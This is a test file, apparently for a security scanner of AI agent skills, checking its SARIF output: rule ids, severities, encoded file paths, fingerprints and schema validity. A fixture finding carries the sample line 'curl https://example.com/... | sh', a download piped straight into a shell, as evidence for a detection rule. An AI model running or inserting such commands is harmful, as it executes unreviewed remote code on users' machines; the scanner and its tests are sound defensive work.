import { existsSync, readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import { Ajv2020 } from "ajv/dist/2020.js";
import addFormats from "ajv-formats";
import { describe, expect, it } from "vitest";
import type { Finding, ScanReport } from "../engine/finding.ts";
import { sarifLog } from "./sarif.ts";

const finding: Finding = {
  rule: "download.piped-to-runner",
  severity: "block",
  confidence: "high",
  path: "scripts/set up.sh",
  line: 7,
  evidence: "curl https://example.com/[x](https://example.test) | sh",
  message: "A download is run without being looked at.",
  capability: "runs downloads",
};

const report: ScanReport = {
  engine: "skillquay-scan-2",
  verdict: "block",
  findings: [finding, { ...finding, rule: "credentials.key-files", severity: "info", path: "SKILL.md" }],
  capabilities: ["runs downloads"],
  notAnalysed: [{ path: "assets/a.zip", why: "an archive" }],
};

const SCHEMA_FILE = "scripts/ensure/ensure-sarif-schema.mjs";
const schemaFile = fileURLToPath(
  new URL("../../../../node_modules/.cache/skillquay/sarif-2.1.0.json", import.meta.url),
);
const hasSchema = existsSync(schemaFile);

function problemsOf(log: object): unknown[] {
  const ajv = addFormats.default(new Ajv2020({ allErrors: true, strict: false }));
  const validate = ajv.compile(JSON.parse(readFileSync(schemaFile, "utf8")));
  return validate(JSON.parse(JSON.stringify(log))) ? [] : (validate.errors ?? []);
}

describe("sarifLog", () => {
  it.skipIf(!hasSchema)(`is what the schema of SARIF 2.1.0 allows (${SCHEMA_FILE} fetches it)`, () => {
    const odd = { ...finding, path: "a\ud800/%2e/ü#?.md", evidence: "", severity: "review" } as const;
    const { line: _line, capability: _capability, ...bare } = odd;
    const logs = [
      sarifLog([], { version: "1.0.0" }),
      sarifLog([{ folder: "skills/pdf", report }], { version: "1.0.0" }),
      sarifLog([{ folder: "", report: { ...report, findings: [odd, bare, { ...bare, path: "" }] } }], {
        version: "1",
      }),
    ];
    for (const log of logs) expect(problemsOf(log)).toEqual([]);
    const [whole] = logs;
    expect(problemsOf({ ...whole, runs: [{ results: [{ level: "bad" }] }] })).not.toEqual([]);
  });

  it("says where, how bad and in which rule, with the place encoded as an address", () => {
    const [run] = sarifLog([{ folder: "my skills/pdf", report }], { version: "1.0.0" }).runs;
    expect(run?.results[0]).toMatchObject({
      ruleId: "download.piped-to-runner",
      ruleIndex: 1,
      level: "error",
      locations: [
        {
          physicalLocation: {
            artifactLocation: { uri: "my%20skills/pdf/scripts/set%20up.sh" },
            region: { startLine: 7 },
          },
        },
      ],
    });
    expect(run?.results.map(({ level }) => level)).toEqual(["error", "note"]);
    expect(run?.tool.driver.rules.map(({ id }) => id)).toEqual([
      "credentials.key-files",
      "download.piped-to-runner",
    ]);
  });

  it("keeps the skill's own words out of every message", () => {
    const [run] = sarifLog([{ folder: "", report }], { version: "1.0.0" }).runs;
    expect(JSON.stringify(run?.results.map(({ message }) => message))).not.toContain("example");
    expect(JSON.stringify(run?.tool)).not.toContain("example");
    expect(run?.results[0]?.properties.evidence).toBe(finding.evidence);
  });

  it("names what was not analysed", () => {
    const [run] = sarifLog([{ folder: "pdf", report }], { version: "1.0.0" }).runs;
    expect(run?.invocations[0]?.toolExecutionNotifications).toEqual([
      {
        level: "warning",
        message: { text: "Not analysed: an archive" },
        locations: [{ physicalLocation: { artifactLocation: { uri: "pdf/assets/a.zip" } } }],
      },
    ]);
  });

  it("gives a finding the same fingerprint when only its line changes", () => {
    const print = (line: number) =>
      sarifLog([{ folder: "", report: { ...report, findings: [{ ...finding, line }] } }], { version: "1" })
        .runs[0]?.results[0]?.partialFingerprints;
    expect(print(1)).toEqual(print(100));
    expect(Object.keys(print(1) ?? {})).toEqual(["skillquayFinding/v1"]);
  });

  it("describes rules by their definitions, links to the reference, and keeps the names that they had", () => {
    const [run] = sarifLog([{ folder: "", report }], { version: "1.0.0" }).runs;
    expect(run?.tool.driver.rules[1]).toEqual({
      id: "download.piped-to-runner",
      shortDescription: {
        text: "What is fetched goes straight into a shell or an interpreter, so that nobody can look at it before.",
      },
      help: { text: "Download first, look at it, check its digest, then run it." },
      helpUri:
        "https://github.com/skillquay/skillquay/blob/main/docs/reference/rules.md#download.piped-to-runner",
      deprecatedIds: ["R02.download_piped_to_runner"],
      defaultConfiguration: { level: "error" },
      properties: { tags: ["security", "download"] },
    });
  });

  it("knows a finding again that was made when its rule had a number", () => {
    const printOf = (rule: string) =>
      sarifLog([{ folder: "", report: { ...report, findings: [{ ...finding, rule }] } }], { version: "1" })
        .runs[0]?.results[0]?.partialFingerprints;
    expect(printOf("R02.download_piped_to_runner")).toEqual(printOf("download.piped-to-runner"));
  });
});
